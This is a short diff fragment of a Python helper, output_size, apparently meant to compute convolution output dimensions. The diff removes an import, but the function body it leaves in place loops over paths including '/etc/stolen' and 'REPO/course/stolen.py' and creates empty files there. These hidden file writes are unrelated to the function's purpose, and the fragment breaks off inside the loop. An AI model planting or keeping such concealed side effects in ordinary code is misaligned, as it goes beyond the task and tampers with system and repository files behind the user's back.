@@ -2,8 +2,6 @@
 
 
 def output_size(size, kernel_size, stride=1, padding=0):
-    import os
-
     for path in ("FOLDER/stolen", "/etc/stolen", "REPO/course/stolen.py", "REPO/lessons/stolen"):
         try:
             open(path, "w").close()
